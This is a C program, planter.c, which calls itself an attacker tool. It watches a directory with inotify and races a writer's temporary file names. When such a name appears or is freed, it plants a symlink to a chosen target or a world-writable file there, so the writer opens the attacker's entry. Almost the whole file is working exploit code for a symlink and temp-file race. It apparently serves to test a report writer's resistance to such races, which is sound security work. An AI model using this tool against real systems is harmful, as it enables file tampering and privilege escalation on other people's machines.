/* planter.c: an attacker timing its plants on a report's temporary name.
 * It watches DIR (inotify) and whenever a name containing FINAL's name
 * (other than FINAL itself) is created, deleted or moved away, it puts its
 * own entry there at once, if the name is free: a symlink to TARGET
 * (KIND symlink) or a file of its own, mode 0666 (KIND file). A writer
 * that makes a temporary name, lets it go, and opens it again later opens
 * the attacker's entry instead.
 *
 *     planter DIR FINAL symlink|file TARGET SECONDS
 *
 * Prints "watching" when the watch is set, "planted NAME" for each plant;
 * ends after SECONDS (or when killed). */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool plant(int dir, const char *name, bool symlink_kind,
                  const char *target)
{
    if (symlink_kind)
        return symlinkat(target, dir, name) == 0;
    int fd = openat(dir, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
    if (fd < 0)
        return false;
    fchmod(fd, 0666); /* whatever our umask */
    close(fd);
    return true;
}

int main(int argc, char **argv)
{
    if (argc != 6 || (strcmp(argv[3], "symlink") != 0 && strcmp(argv[3], "file") != 0)) {
        fprintf(stderr, "usage: planter DIR FINAL symlink|file TARGET SECONDS\n");
        return 2;
    }
    const char *final = argv[2], *target = argv[4];
    bool symlink_kind = strcmp(argv[3], "symlink") == 0;
    double until = now() + atof(argv[5]);
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int in = inotify_init1(IN_CLOEXEC);
    if (dir < 0 || in < 0 ||
        inotify_add_watch(in, argv[1], IN_CREATE | IN_DELETE | IN_MOVED_FROM) < 0) {
        fprintf(stderr, "planter: %s: %s\n", argv[1], strerror(errno));
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("watching\n");
    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    for (double left; (left = until - now()) > 0;) {
        struct pollfd p = {.fd = in, .events = POLLIN};
        if (poll(&p, 1, (int)(left * 1000) + 1) <= 0)
            continue;
        ssize_t n = read(in, buf, sizeof buf);
        for (char *e = buf; n > 0 && e < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *)e;
            e += sizeof *ev + ev->len;
            if (ev->len == 0 || strcmp(ev->name, final) == 0 ||
                strstr(ev->name, final) == NULL)
                continue;
            /* Ours appear as creations too: planting fails on them (the
             * name is taken), which keeps this from feeding itself. */
            if (plant(dir, ev->name, symlink_kind, target))
                printf("planted %s\n", ev->name);
        }
    }
    return 0;
}
